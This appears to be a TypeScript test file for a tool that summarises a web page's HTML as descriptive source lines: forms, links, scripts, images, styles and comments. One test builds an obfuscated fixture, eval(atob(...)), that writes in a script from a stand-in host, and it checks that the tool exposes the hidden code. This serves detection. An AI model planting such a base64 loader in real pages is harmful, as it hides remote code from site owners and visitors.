import assert from "node:assert/strict";
import { test } from "node:test";
import { readPage } from "../../../src/page/read_page.ts";

const URL = "https://gartenbau-lindner.example/kontakt";

function linesOf(html: string): string[] {
  const bytes = new TextEncoder().encode(`<!doctype html><html lang="de"><head></head><body>${html}</body></html>`);
  const reading = readPage(bytes, {
    url: URL,
    contentType: "text/html",
    headers: {},
    site: "gartenbau-lindner.example",
  });
  assert.ok(reading.ok);
  return reading.html.source_lines!;
}

test("source_lines names what elements do, by what is the same on other pages", () => {
  const lines = linesOf(
    `<main inert><form action="https://forms.example/f/9?x=1" method="post"><input type="hidden" name="key" value="YOUR_KEY"><button type="submit" disabled>Senden</button></form></main>
     <a href="tel:+49301234">030 1234</a><a href="https://shop.example/a">Shop</a><a href="/preise">Preise</a>
     <script src="/js/app.js?v=3" defer></script><p style="margin:0">Text</p><p style="display:none">Nicht</p>`,
  );
  assert.deepEqual(lines, [
    "<html lang>\tde",
    "<input hidden key>\tvalue=YOUR_KEY",
    "<button submit>\tdisabled",
    '<button "Senden">\t',
    "<form forms.example/f/9>\tmethod=post",
    "<main inert>\twith some text",
    '<a tel:>\ttel:+49301234 "030 1234"',
    '<a to shop.example>\thttps://shop.example/a "Shop"',
    "<script /js/app.js>\tsrc=/js/app.js?v=3 defer",
    "<p style> display:none\twith some text",
  ]);
});

test("source_lines shows what a script hides in base64, and when the first image of the content loads", () => {
  const hidden = Buffer.from("document.write('<script src=//cdn.example/pay.js>')").toString("base64");
  const lines = linesOf(
    `<header><img src="/logo.svg"></header><img src="/a.jpg" loading="lazy"><img src="/b.jpg"><script>eval(atob("${hidden}"))</script>`,
  );
  assert.deepEqual(
    lines.filter((line) => line.startsWith("<first")),
    ["<first image of the content>\tloading=lazy"],
  );
  const script = lines.find((line) => line.startsWith("<script>"));
  assert.match(script ?? "", /\(in base64: document\.write\('<script src=\/\/cdn\.example\/pay\.js>'\)\)/);
});

test("source_lines counts what a page should have once, and keeps hundreds of styles from pushing out scripts", () => {
  const script = '<script src="https://tags.example/gtm.js"></script>';
  const styles = Array.from(
    { length: 400 },
    (_, at) => `<style>.box-${"abcdefghij"[at % 10]}${at}x { color: red }</style>`,
  );
  const lines = linesOf(`${styles.join("")}${script}${script}`);
  assert.ok(
    lines.includes("<script tags.example/gtm.js>\tsrc=https://tags.example/gtm.js (2 times)"),
    lines.join("\n"),
  );
  assert.ok(lines.length < 30);
});

test("source_lines tells images by the attributes that they have, and a srcset that no browser reads", () => {
  const lines = linesOf('<img src="/a.jpg" srcset="/a-1.jpg 400, /a-2.jpg 800"><img data-src="/b.jpg"><img src="">');
  assert.deepEqual(
    lines.filter((line) => line.startsWith("<img>")),
    [
      "<img> with src srcset a srcset that browsers cannot read\t",
      "<img> with data-src\t",
      "<img> with src an empty src\t",
    ],
  );
});

test("source_lines says of a form that no button sends it, and of images that another site serves", () => {
  const form = '<form action="/senden"><input name="mail" required>';
  assert.ok(
    linesOf(`${form}<button type="button">Los</button></form>`).includes(
      "<form /senden>\twithout a button that sends it",
    ),
  );
  assert.ok(linesOf(`${form}<button>Los</button></form>`).includes("<form /senden>\t"));
  assert.ok(
    linesOf('<img src="https://thumbs.stock.example/1.jpg">').includes("<img> with src from thumbs.stock.example\t"),
  );
});

test("source_lines tells of a comment that swallows markup up to the next comment's end", () => {
  const told = (html: string) => linesOf(html).some((line) => line.startsWith("<!-- comment"));
  assert.ok(told('<!-- old form <form action="/senden"><input name="mail"></form><!-- end --><p>Text</p>'));
  assert.ok(!told("<!-- old form --><form></form><!-- end --><!-- <p>left out</p> -->"));
});
